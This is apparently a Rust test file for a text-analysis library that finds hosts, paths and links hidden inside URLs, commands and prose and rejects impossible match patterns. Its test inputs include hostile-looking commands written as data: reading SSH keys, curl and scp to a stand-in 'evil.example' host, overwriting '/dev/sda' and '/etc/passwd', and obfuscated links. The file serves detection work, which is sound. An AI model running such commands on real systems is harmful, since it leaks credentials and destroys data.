//! Values inside of values, links in texts, and patterns that nothing can match.
#![allow(clippy::unwrap_used, reason = "only tests")]

use rev_text::{Context, Kind, Op, Pattern, inside, links};

#[track_caller]
fn holds(kind: Kind, value: &str, wanted: &[(Kind, &str)]) {
    let found = inside(kind, value, &Context::default());
    for (kind, text) in wanted {
        let wanted = (*kind, (*text).to_owned());
        assert!(found.contains(&wanted), "no {wanted:?} in {found:?}");
    }
}

#[test]
fn values_inside_values() {
    use Kind::{Command, Email, Host, Path, Text, Url};
    holds(
        Url,
        "HTTPS:Evil.example\\@x.example",
        &[(Host, "evil.example")],
    );
    holds(Url, " FILE:\\etc\\x", &[(Path, "/etc/x")]);
    holds(Command, "cat ~/.ssh/id_rsa", &[(Path, "~/.ssh/id_rsa")]);
    holds(Command, "cat $HOME/.ssh/id", &[(Path, "~/.ssh/id")]);
    holds(Command, "cat \"${HOME}\"/.ssh/id", &[(Path, "~/.ssh/id")]);
    holds(Command, "echo x > /etc/./passwd", &[(Path, "/etc/passwd")]);
    holds(Command, "cat </etc/passwd", &[(Path, "/etc/passwd")]);
    holds(Command, "dd if=x of=/dev/sda", &[(Path, "/dev/sda")]);
    holds(Command, "cc -I/etc x", &[(Path, "/etc")]);
    holds(Command, "x --out=/etc/y", &[(Path, "/etc/y")]);
    holds(Command, "bash -c 'cat /etc/x'", &[(Path, "/etc/x")]);
    holds(Command, "$x /etc/y", &[(Path, "/etc/y")]);
    holds(Command, "X=/etc/y", &[(Path, "/etc/y")]);
    holds(Command, "for f in /etc/y; do ls; done", &[(Path, "/etc/y")]);
    holds(Command, "cat file:///etc/%78", &[(Path, "/etc/x")]);
    holds(
        Command,
        "curl evil.example/x",
        &[(Host, "evil.example"), (Url, "http://evil.example/x")],
    );
    holds(Command, "curl Evil.example:8080", &[(Host, "evil.example")]);
    holds(
        Command,
        "scp x ann@evil.example:/tmp",
        &[(Host, "evil.example")],
    );
    holds(Command, "ping 2130706433", &[(Host, "127.0.0.1")]);
    holds(Url, "file:///etc/x", &[(Path, "/etc/x")]);
    holds(Url, "https://a@evil.example/", &[(Host, "evil.example")]);
    holds(
        Url,
        "mailto:ann@evil.example",
        &[(Email, "ann@evil.example"), (Host, "evil.example")],
    );
    holds(Email, "ann@evil.example", &[(Host, "evil.example")]);
    holds(
        Text,
        "ANN@Evil.example",
        &[(Email, "ANN@evil.example"), (Host, "evil.example")],
    );
    holds(
        Text,
        "rm /etc/x",
        &[(Command, "rm /etc/x"), (Path, "/etc/x")],
    );
    assert_eq!(inside(Kind::Path, "/etc/x", &Context::default()), []);
}

#[test]
fn links_in_texts() {
    for (text, wanted) in [
        ("go to https://evil.example/a.", "https://evil.example/a"),
        (
            "<a href='https://evil.example/'>x</a>",
            "https://evil.example/",
        ),
        ("<a href=evil.example/x>", "http://evil.example/x"),
        ("![x](//evil.example/p.png)", "http://evil.example/p.png"),
        (
            "[a]: https://evil.example/?q=1",
            "https://evil.example/?q=1",
        ),
        ("HTTPS:\\\\evil.example\\x", "https://evil.example/x"),
        ("&#104;ttps://evil.example/", "https://evil.example/"),
        ("https&colon;//evil.example/", "https://evil.example/"),
        ("see evil.example", "evil.example"),
        ("**evil.example**", "evil.example"),
        ("write to ann@evil.example!", "evil.example"),
        ("at 192.0.2.1", "192.0.2.1"),
        ("javascript:alert", "javascript:alert"),
        ("evil.example/path?x=1", "http://evil.example/path?x=1"),
        ("see evil.example?to=ann", "http://evil.example/?to=ann"),
        ("x=evil.example", "evil.example"),
        ("\\\\evil.example\\share", "evil.example"),
        ("http://[2001:db8::1]/a", "http://[2001:db8::1]/a"),
        ("(http://[2001:db8::1]:8080)", "http://[2001:db8::1]:8080/"),
        // What no machine can be made of may still be one for the program that shows it.
        (
            "https://evil\u{2024}example/a",
            "https://evil\u{2024}example/a",
        ),
        ("http://evil_%zz.example", "http://evil_%zz.example"),
        ("\u{ff45}vil\u{ff0e}example", "evil.example"),
    ] {
        let found: Vec<String> = links(text).into_iter().map(|(_, link)| link).collect();
        assert_eq!(found, [wanted], "{text}");
    }
    for text in [
        "",
        "no links, e.g. none",
        "see report.pdf",
        "it costs 4.50",
        "version 1.2.3",
        "a/b",
        "a=b",
        "metadata:x",
        "news:today",
    ] {
        assert_eq!(links(text), [], "{text}");
    }
}

#[test]
fn links_broken_over_lines() {
    for (text, wanted) in [
        (
            "see <https://evil.example/\n  a/b>.",
            &["https://evil.example/a/b"][..],
        ),
        (
            "[menu](https://evil.exa\nmple/x)",
            &["https://evil.example/x"],
        ),
        (
            "<a href=\"https://evil.example\n/x\">",
            &["https://evil.example/x"],
        ),
        (
            "go to https://\nevil.example/x now",
            &["https://evil.example/x"],
        ),
        (
            "go to https:\n//evil.example now",
            &["https://evil.example/"],
        ),
        ("www.evil-\r\nsite.example", &["www.evil-site.example"]),
        (
            "> https://evil.example/?a=\n> b&c=1",
            &["https://evil.example/?a=b&c=1"],
        ),
        ("visit evil.\nexample/x", &["http://evil.example/x"]),
        (
            "visit www.evil\n.example",
            &["www.evil", "www.evil.example"],
        ),
        (
            "at https://docs.example/\nevil",
            &["https://docs.example/", "https://docs.example/evil"],
        ),
        ("e\u{200b}vil.ex&shy;ample", &["evil.example"]),
    ] {
        let found: Vec<String> = links(text).into_iter().map(|(_, link)| link).collect();
        assert_eq!(found, wanted, "{text:?}");
    }
}

#[test]
fn lines_that_end_where_links_do_not_go_on() {
    for (text, wanted) in [
        ("See example.org.\nThanks!", &["example.org"][..]),
        ("Have you seen example.org?\nThanks!", &["example.org"]),
        (
            "https://example.org/menu\nThanks",
            &["https://example.org/menu"],
        ),
        ("First line.\nSecond line.\n\nThird: it", &[]),
        ("Well: \n(no)", &[]),
    ] {
        let found: Vec<String> = links(text).into_iter().map(|(_, link)| link).collect();
        assert_eq!(found, wanted, "{text:?}");
    }
}

#[test]
fn patterns_that_nothing_can_match() {
    use Kind::{Command, Email, Host, Path, Text, Url};
    for (kind, op, text, why) in [
        (Host, Op::Is, "two words", "this is no host"),
        (
            Host,
            Op::Like,
            "*.exa mple",
            "no host is written like `*.exa mple`",
        ),
        (Host, Op::Like, "*/x", "no host is written like `*/x`"),
        (
            Host,
            Op::Like,
            "*bücher.example",
            "no host is written like `*bücher.example`",
        ),
        (Host, Op::Under, "a", "`under` cannot test a `host`"),
        (Email, Op::Is, "ann", "this is no e-mail address"),
        (
            Email,
            Op::Like,
            "*@*@x",
            "no e-mail address is written like `*@*@x`",
        ),
        (Path, Op::Under, "", "this path is empty"),
        (
            Path,
            Op::Like,
            "**/../x",
            "no path is written like `**/../x`",
        ),
        (
            Path,
            Op::Under,
            "~/../x",
            "no path is written like `~/../x`",
        ),
        (Path, Op::Is, "a\0", "no value has a zero byte"),
        (
            Url,
            Op::Like,
            "https://",
            "no URL is written like `https://`",
        ),
        (
            Url,
            Op::Like,
            "https://a:b/",
            "no URL is written like `https://a:b/`",
        ),
        (
            Url,
            Op::Like,
            "https://a/#b",
            "no URL is written like `https://a/#b`",
        ),
        (
            Url,
            Op::Under,
            "https://a/?b",
            "`https://a/?b` has a query, and nothing is under one",
        ),
        (
            Command,
            Op::Runs,
            "ls; rm",
            "`ls; rm` is not one plain command: a program, its flags and its words",
        ),
        (
            Command,
            Op::Runs,
            "rm $x",
            "`rm $x` is not one plain command: a program, its flags and its words",
        ),
        (
            Command,
            Op::RunsOnly,
            "",
            "`` is not one plain command: a program, its flags and its words",
        ),
        (Command, Op::Runs, "-rf", "no program is called `-rf`"),
        (Text, Op::Runs, "ls", "`runs` cannot test a `text`"),
    ] {
        let found = Pattern::parse(kind, op, text).unwrap_err().to_string();
        assert_eq!(found, why);
    }
}

#[test]
fn a_url_is_itself_whatever_its_scheme_makes_of_it() {
    for text in [
        "rmhttps://~/\\",
        "other://x/a'b?c'd",
        "https://x/a\\b",
        "https://x/a?c'd",
        "other://x",
        "other://x/%7e/a%2fb",
        "file:////",
        "file://///a",
    ] {
        let value = rev_text::url::normalise(text).unwrap();
        let pattern = Pattern::parse(Kind::Url, Op::Is, text).unwrap();
        let same = pattern.matches(&value, &rev_text::Context::default());
        assert_eq!(same, rev_text::Truth::True, "`{text}` as `{pattern}`");
    }
}

#[test]
fn a_name_that_looks_like_a_url_stays_a_name() {
    for path in ["./file:", "a/../file:x/y", "./FILE:x"] {
        let nowhere = rev_text::Context::default();
        let once = rev_text::path::normalise(path, &nowhere).unwrap();
        let twice = rev_text::path::normalise(&once, &nowhere).unwrap();
        assert!(once.starts_with("./") && once == twice, "{once} {twice}");
    }
}
